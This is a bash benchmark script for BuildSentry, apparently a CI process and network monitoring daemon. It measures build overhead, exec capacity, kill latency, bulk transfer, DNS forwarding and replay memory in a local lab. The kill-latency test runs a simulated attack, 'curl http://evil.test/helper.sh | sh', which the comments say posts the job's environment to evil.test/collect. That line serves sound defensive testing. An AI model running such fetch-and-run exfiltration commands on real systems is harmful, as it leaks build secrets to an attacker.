#!/usr/bin/env bash
# BuildSentry's performance measurements on this machine. Prints a table and writes CSV.
#
#   scripts/bench.sh [--quick] [--only 1,3,...] [--out DIR]   measurements 1-7 (needs root, the lab)
#   scripts/bench.sh --micro [--full]                         BenchmarkDotNet micro-benchmarks
#
# Measurements with and without the daemon are interleaved A/B (the order alternates per round)
# and quoted as medians and ratios of medians. Raw samples: DIR/bench-runs.csv; the summary:
# DIR/bench-results.csv (DIR defaults to ./bench-out). docs/performance.md explains each method.
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD
# shellcheck source=scripts/deps.sh
source scripts/deps.sh
# shellcheck source=scripts/bench/daemon.sh
source scripts/bench/daemon.sh
readonly BIN=$ROOT/$DAEMON_DIR/buildsentry
readonly BENCH_DLL=$ROOT/tests/BuildSentry.Benchmarks/bin/Release/net10.0/BuildSentry.Benchmarks.dll
readonly LAB_STATE=/run/buildsentry-lab

quick=0 micro=0 full_micro=0 only=1,2,3,4,5,6,7 out=$ROOT/bench-out
while [ $# -gt 0 ]; do
  case $1 in
    --quick) quick=1 ;;
    --micro) micro=1 ;;
    --full) full_micro=1 ;;
    --only) only=$2; shift ;;
    --out) out=$2; shift ;;
    -h | --help) sed -n '2,9p' "$0"; exit 0 ;;
    *) echo "bench: unknown argument $1" >&2; exit 2 ;;
  esac
  shift
done
wants() { [[ ",$only," == *",$1,"* ]]; }
log() { echo "bench: $*" >&2; }

export DOTNET_CLI_TELEMETRY_OPTOUT=1 DOTNET_NOLOGO=1
log "building (Release)"
dotnet build BuildSentry.sln -c Release -nologo -v quiet >/dev/null
[ "$micro" -eq 1 ] || publish_daemon >/dev/null

if [ "$micro" -eq 1 ]; then
  # In-process: no per-benchmark project rebuild, which matters on a 2-core CI box.
  job=(--job Short)
  [ "$full_micro" -eq 1 ] && job=()
  mkdir -p "$out"
  cd tests/BuildSentry.Benchmarks
  exec dotnet "$BENCH_DLL" --filter '*' "${job[@]}" --inProcess --memory --artifacts "$out/micro"
fi

[ "$(id -u)" -eq 0 ] || { log "must run as root (the daemon, the lab)"; exit 1; }
mkdir -p "$out"
work=$(mktemp -d /tmp/buildsentry-bench.XXXXXX)
RAW=$out/bench-runs.csv
echo "measurement,variant,run,metric,value" >"$RAW"
sample() { echo "$1,$2,$3,$4,$5" >>"$RAW"; }

# One lab per machine: wait for tests or other benches in other worktrees to finish with it.
exec 9>/run/buildsentry-lab.lock
flock -n 9 || { log "waiting for the lab lock (/run/buildsentry-lab.lock)"; flock 9; }

daemon_pid=""
cleanup() {
  [ -n "$daemon_pid" ] && daemon_stop
  scripts/lab.sh down >/dev/null 2>&1 || true
  rm -rf "$work"
}
trap cleanup EXIT

gcc -O2 -Wall -o "$work/execstorm" scripts/bench/execstorm.c
gcc -O2 -Wall -o "$work/floor" scripts/bench/floor.c
# The exec chain is x86-64 only (raw system calls, no libc); elsewhere measurement 3 runs the spawns alone.
chain=""
if [ "$(uname -m)" = x86_64 ]; then
  gcc -O2 -Wall -static -nostdlib -fno-stack-protector -o "$work/execchain" scripts/bench/execchain.c
  chain=$work/execchain
fi
printf 'int main(void) { return 0; }\n' >"$work/true.c"
gcc -O2 -static -o "$work/true" "$work/true.c"
log "bringing the lab up"
# The lab's servers outlive this command: they must not inherit (and hold) the lock.
scripts/lab.sh up >/dev/null 2>&1 9>&-

# daemon_start MODE [SENSOR]: a fresh daemon with the lab profile and its own directory, ready when capture is on.
# SENSOR is its process_sensor (auto: the eBPF sensor where the kernel allows it, as shipped).
daemon_start() {
  local dir=$work/daemon-$RANDOM
  mkdir -p "$dir/profiles" "$dir/reports"
  cp tests/BuildSentry.EndToEnd/Profiles/lab.yaml "$dir/profiles/"
  cat >"$dir/buildsentry.yaml" <<YAML
profiles_dir: $dir/profiles
default_mode: $1
reports_dir: $dir/reports
control:
  socket: $dir/control.sock
process_sensor: ${2:-auto}
prevent:
  dns_servers: [198.18.0.2]
YAML
  daemon_run "$dir"
}
# Private memory (what the daemon alone costs; RSS also counts shared runtime libraries) and the pcap ring, in MB.
private_mb() { awk '/^Private_(Clean|Dirty):/ { s += $2 } END { printf "%.1f", s / 1024 }' "/proc/$1/smaps_rollup"; }
ring_mb() { awk '/^[0-9a-f]/ { ring = ($6 ~ /^socket:/) } ring && /^Rss:/ { s += $2 } END { printf "%.1f", s / 1024 }' "/proc/$1/smaps"; }
# The peak resident set (VmHWM) of a live process, in MB.
peak_rss_mb() { awk '/^VmHWM:/ { printf "%.1f", $2 / 1024 }' "/proc/$1/status"; }
status_json() { "$BIN" status --json --socket "$daemon_dir/control.sock"; }
status_counter() { status_json | python3 -c "import json,sys; print(json.load(sys.stdin)['counters']['$1'])"; }
status_field() { status_json | python3 -c "import json,sys; d=json.load(sys.stdin); print(d['sensors'].get('$1') or 0)"; }
# A marked GitHub job: the daemon recognises it from these variables, exactly as on a runner.
as_job() {
  local run_id=$1 job=$2; shift 2
  env GITHUB_ACTIONS=true GITHUB_RUN_ID="$run_id" GITHUB_JOB="$job" GITHUB_REPOSITORY=acme/bench "$@"
}

# Measurements 1 and 2: the build-like workload, A (no daemon) and B (daemon, audit) interleaved.
measure_overhead() {
  local rounds=$1 iterations=$2 round variant line
  log "1+2: build overhead, $rounds rounds A/B, $((iterations * 22)) processes and $((iterations * 2)) connections per run"
  for round in $(seq 1 "$rounds"); do
    # B: the daemon on the proc connector; E: on the eBPF sensor. F: the floor (scripts/bench/floor.c), the least any
    # /proc-based monitor does per process, for scale.
    local order=(A B E F)
    [ $((round % 2)) -eq 0 ] && order=(F E B A)
    for variant in "${order[@]}"; do
      local before=0 events0=0 unread0=0 floor_pid="" floor_out=$work/floor.out
      if [ "$variant" = F ]; then
        "$work/floor" >"$floor_out" 9>&- &
        floor_pid=$!
        until grep -q ready "$floor_out" 2>/dev/null; do sleep 0.05; done
      fi
      if [ "$variant" = B ] || [ "$variant" = E ]; then
        if [ "$variant" = B ]; then daemon_start audit proc-connector; else daemon_start audit ebpf; fi
        # A daemon runs for weeks: measure it warm. Its start-up (JIT, first jobs) is reported apart.
        as_job "bench.warmup.$round" build scripts/lab.sh exec scripts/bench/workload.sh 10 >/dev/null 2>&1
        sleep 1
        # The daemon sees every process on the host: its CPU while no job runs is the baseline.
        before=$(cpu_seconds "$daemon_pid")
        sleep 3
        sample 2 "$variant" "$round" daemon_idle_cpu_per_s "$(echo "($(cpu_seconds "$daemon_pid") - $before) / 3" | bc -l)"
        before=$(cpu_seconds "$daemon_pid")
        sample 2 "$variant" "$round" daemon_startup_cpu_s "$before"
        events0=$(status_counter events)
        unread0=$(status_field processExecsUnread)
      fi
      # %e wall, %U+%S CPU of the job and every process it waited for.
      line=$(as_job "bench.overhead.$round$variant" build /usr/bin/time -f "%e %U %S" \
        scripts/lab.sh exec scripts/bench/workload.sh "$iterations" 2>&1 >/dev/null | tail -1)
      read -r wall user sys <<<"$line"
      sample 1 "$variant" "$round" wall_s "$wall"
      sample 2 "$variant" "$round" workload_cpu_s "$(echo "$user + $sys" | bc -l)"
      if [ "$variant" = F ]; then
        sleep 1
        kill -TERM "$floor_pid"; wait "$floor_pid" || true
        sample 2 F "$round" floor_cpu_s "$(awk '/^events/ { print $4 }' "$floor_out")"
        sample 2 F "$round" floor_execs_unread "$(awk '/^events/ { print $6 }' "$floor_out")"
      fi
      if [ "$variant" = B ] || [ "$variant" = E ]; then
        sleep 1 # the job's last events (exits, the report) are the daemon's cost too
        sample 2 "$variant" "$round" daemon_cpu_s "$(echo "$(cpu_seconds "$daemon_pid") - $before" | bc -l)"
        sample 2 "$variant" "$round" daemon_peak_rss_mb "$(peak_rss_mb "$daemon_pid")"
        sample 2 "$variant" "$round" daemon_private_mb "$(private_mb "$daemon_pid")"
        sample 2 "$variant" "$round" daemon_pcap_ring_mb "$(ring_mb "$daemon_pid")"
        sample 2 "$variant" "$round" daemon_events "$(($(status_counter events) - events0))"
        # Execs the sensor read after the process had exited: reported without program and arguments.
        sample 2 "$variant" "$round" execs_unread "$(($(status_field processExecsUnread) - unread0))"
        sample 2 "$variant" "$round" processes "$((iterations * 22 + 3))"
        daemon_stop
      fi
      log "  round $round $variant: wall ${wall}s"
    done
  done
}

# Measurement 7: what prevent mode's DNS forwarder adds to a query. A job asks the lab resolver for an allowed name,
# one query at a time; in audit mode it goes straight there, in prevent mode the kernel redirects it to the daemon's
# forwarder, which finds the job, judges the name, asks the resolver and puts the answer on the job's allowlist.
# Three rounds, audit and prevent interleaved, no link delay.
measure_dns() {
  local queries=$1 round variant
  log "7: DNS round trip, audit vs prevent, $queries queries per run"
  scripts/lab.sh delay 0 >/dev/null 9>&-
  for round in 1 2 3; do
    for variant in audit prevent; do
      daemon_start "$variant"
      as_job "bench.dns.warmup.$round$variant" warmup scripts/lab.sh exec python3 scripts/bench/dnsrtt.py 20 >/dev/null
      as_job "bench.dns.$round$variant" dns scripts/lab.sh exec python3 scripts/bench/dnsrtt.py "$queries" >"$work/dns.out"
      while read -r us; do sample 7 "$variant" "$round" rtt_us "$us"; done <"$work/dns.out"
      daemon_stop
    done
  done
}

# Measurement 3: exec bursts at rising parallelism; loss and rescans from the daemon's counters.
measure_exec_capacity() {
  local total=$1 workers
  log "3: exec capacity, $total execs per burst"
  daemon_start audit
  for workers in 1 2 4 8 16; do
    local lost0 rescans0 line
    lost0=$(status_field processEventsLost) rescans0=$(status_field processRescans)
    line=$(as_job "bench.exec.$workers" burst "$work/execstorm" "$workers" "$total" "$work/true")
    read -r execs seconds rate <<<"$line"
    sleep 2 # a rescan after loss is asynchronous
    sample 3 B "$workers" execs_per_s "$rate"
    sample 3 B "$workers" events_lost "$(($(status_field processEventsLost) - lost0))"
    sample 3 B "$workers" rescans "$(($(status_field processRescans) - rescans0))"
    log "  $workers workers: $rate execs/s"
  done
  # Spawns top out near 5,000/s on two cores (a fork, an exec and an exit each). Exec chains reach several
  # times that: 4 chains paced at a fixed rate for 5 s each, then unpaced (as fast as the kernel execs).
  if [ -n "$chain" ]; then
    local rate
    for rate in 5000 10000 20000 0; do
      local lost0 rescans0 line
      lost0=$(status_field processEventsLost) rescans0=$(status_field processRescans)
      line=$(as_job "bench.chain.$rate" burst "$work/execstorm" --chain 4 "$((rate ? rate * 5 : 200000))" "$rate" "$chain")
      read -r execs seconds achieved <<<"$line"
      sleep 2
      sample 3 B "chain$rate" execs_per_s "$achieved"
      sample 3 B "chain$rate" events_lost "$(($(status_field processEventsLost) - lost0))"
      sample 3 B "chain$rate" rescans "$(($(status_field processRescans) - rescans0))"
      log "  exec chains $([ "$rate" = 0 ] && echo unpaced || echo "paced at $rate/s"): $achieved execs/s"
    done
  fi
  daemon_stop
  if [ -n "$chain" ]; then
    line=$(as_job "bench.chain.a" burst "$work/execstorm" --chain 4 200000 0 "$chain")
    read -r execs seconds rate <<<"$line"
    sample 3 A chain0 execs_per_s "$rate"
  fi
  for workers in 1 2 4 8 16; do
    line=$(as_job "bench.exec.a.$workers" burst "$work/execstorm" "$workers" "$total" "$work/true")
    read -r execs seconds rate <<<"$line"
    sample 3 A "$workers" execs_per_s "$rate"
  done
}

# Measurement 4: the seed scenario (curl evil.test/helper.sh | sh, which POSTs env to evil.test/collect)
# in kill mode. Latency from the job's report: its first violation's time (the capture timestamp of the
# violating packet, a DNS query or a SYN) to its end (the daemon's receipt of the last process's exit).
# A job that ends with no violation was missed (its flows went unattributed). Payload: the bytes of
# POST /collect that evil.test logged during the trial.
measure_kill() {
  local delay=$1 trials=$2 trial
  log "4: kill latency at ${delay} ms link delay, $trials trials"
  scripts/lab.sh delay "$delay" >/dev/null 9>&-
  daemon_start kill
  # Warm, as in measurement 1: a cold daemon's first job is placed in its cgroup only after the JIT has compiled
  # that path (tens of ms), and a curl started sooner than that is attributed from user space only.
  as_job "bench.kill.warmup.$delay" warmup scripts/lab.sh exec curl -s -o /dev/null http://registry.test/ok || true
  local recv=$LAB_STATE/recv/evil.test.log
  for trial in $(seq 1 "$trials"); do
    local run_id=bench.kill.$delay.$trial report lines_before unattributed0
    lines_before=$( (cat "$recv" 2>/dev/null || true) | wc -l)
    unattributed0=$(status_counter unattributedFlows)
    as_job "$run_id" seed scripts/lab.sh exec sh -c \
      'curl -s --max-time 10 http://evil.test/helper.sh | sh' >/dev/null 2>&1 || true
    report=$daemon_dir/reports/github-$run_id-seed.json
    for _ in $(seq 1 100); do [ -f "$report" ] && break; sleep 0.05; done
    sleep 0.2 # a late POST is logged by the server before it answers
    local bytes
    bytes=$( (tail -n +"$((lines_before + 1))" "$recv" 2>/dev/null || true) | awk '$5 == "POST" && $6 == "/collect" { s += $4 } END { print s + 0 }')
    sample 4 "delay$delay" "$trial" payload_bytes "$bytes"
    sample 4 "delay$delay" "$trial" unattributed_flows "$(($(status_counter unattributedFlows) - unattributed0))"
    if [ -f "$report" ]; then
      python3 - "$report" "$delay" "$trial" >>"$RAW" <<'PY'
import json, sys
from datetime import datetime
r = json.load(open(sys.argv[1]))
t = lambda s: datetime.fromisoformat(s.replace("Z", "+00:00")).timestamp()
key = f"4,delay{sys.argv[2]},{sys.argv[3]}"
if r.get("violations") and r.get("kill") and r.get("ended"):
    v = r["violations"][0]
    print(f"{key},first_violation={v['kind']},1")
    print(f"{key},kill_latency_ms,{(t(r['ended']) - t(v['time'])) * 1000:.3f}")
    print(f"{key},detect_ms,{(t(r['kill']['at']) - t(v['time'])) * 1000:.3f}")
    print(f"{key},killed,1")
else:
    print(f"{key},missed,1")
PY
    else
      sample 4 "delay$delay" "$trial" no_report 1
    fi
  done
  cp -r "$daemon_dir/reports" "$out/kill-reports-delay$delay"
  daemon_stop
  scripts/lab.sh delay 0 >/dev/null 9>&-
}

# Measurement 5: 2 GB each way over the veth with the daemon watching: its CPU over the transfer's wall
# time, next to its idle CPU over as long (timers), and the frames the kernel filter let through.
measure_bulk() {
  local runs=$1 bytes=$2 run
  log "5: bulk transfer, $runs run(s) of $bytes bytes each way"
  daemon_start audit
  for run in $(seq 1 "$runs"); do
    local cpu0 t0 t1 frames0 got
    frames0=$(status_field framesCaptured) cpu0=$(cpu_seconds "$daemon_pid") t0=$(date +%s.%N)
    got=$(as_job "bench.bulk.down.$run" download scripts/lab.sh exec \
      curl -s -o /dev/null -w '%{size_download}' --max-time 300 "http://mirror.test/bytes/$bytes")
    t1=$(date +%s.%N)
    sample 5 download "$run" daemon_cpu_s "$(echo "$(cpu_seconds "$daemon_pid") - $cpu0" | bc -l)"
    sample 5 download "$run" wall_s "$(echo "$t1 - $t0" | bc -l)"
    sample 5 download "$run" bytes "$got"
    sample 5 download "$run" frames "$(($(status_field framesCaptured) - frames0))"
    frames0=$(status_field framesCaptured) cpu0=$(cpu_seconds "$daemon_pid") t0=$(date +%s.%N)
    # The sink (port 9000) counts until EOF: the whole upload is outbound, the capture's worst case.
    as_job "bench.bulk.up.$run" upload scripts/lab.sh exec bash -c \
      "head -c $bytes /dev/zero >/dev/tcp/mirror.test/9000"
    t1=$(date +%s.%N)
    sample 5 upload "$run" daemon_cpu_s "$(echo "$(cpu_seconds "$daemon_pid") - $cpu0" | bc -l)"
    sample 5 upload "$run" wall_s "$(echo "$t1 - $t0" | bc -l)"
    sample 5 upload "$run" bytes "$(tail -1 "$LAB_STATE/recv/mirror.test.log" | awk '{ print $4 }')"
    sample 5 upload "$run" frames "$(($(status_field framesCaptured) - frames0))"
    cpu0=$(cpu_seconds "$daemon_pid")
    sleep 5
    sample 5 idle "$run" wall_s 5
    sample 5 idle "$run" daemon_cpu_s "$(echo "$(cpu_seconds "$daemon_pid") - $cpu0" | bc -l)"
  done
  daemon_stop
}

# Measurement 6: a synthetic 1M-event trace through `buildsentry replay`, RSS every 100k events.
measure_replay() {
  local events=$1
  log "6: memory over $events replayed events"
  dotnet "$BENCH_DLL" generate-trace "$events" "$work/trace.ndjson" >/dev/null
  "$BIN" replay "$work/trace.ndjson" --profiles tests/BuildSentry.EndToEnd/Profiles --memory-every 100000 \
    2>"$work/replay.err" >/dev/null
  awk '/^replay: [0-9]+ events, / { gsub(",", ""); print "6,B," $2 ",rss_mb," $11; print "6,B," $2 ",managed_mb," $8 }' "$work/replay.err" >>"$RAW"
  awk '/events\/s\)/ { gsub("[(]", ""); print "6,B,0,events_per_s," $7 }' "$work/replay.err" >>"$RAW"
}

if [ "$quick" -eq 1 ]; then
  rounds=5 iterations=100 exec_total=6000 kill0=50 killn=30 bulk_runs=1 bulk_bytes=500000000 replay_events=1000000 dns_queries=300
else
  rounds=5 iterations=250 exec_total=20000 kill0=200 killn=200 bulk_runs=3 bulk_bytes=2000000000 replay_events=1000000 dns_queries=1000
fi
started=$(date +%s)
wants 1 || wants 2 && measure_overhead "$rounds" "$iterations"
wants 3 && measure_exec_capacity "$exec_total"
if wants 4; then
  measure_kill 0 "$kill0"
  for delay in 1 5 20; do measure_kill "$delay" "$killn"; done
fi
wants 5 && measure_bulk "$bulk_runs" "$bulk_bytes"
wants 7 && measure_dns "$dns_queries"
wants 6 && measure_replay "$replay_events"
log "done in $(($(date +%s) - started)) s"

python3 scripts/bench/summarize.py "$RAW" "$out/bench-results.csv"
echo
echo "raw samples: $RAW"
echo "results:     $out/bench-results.csv"
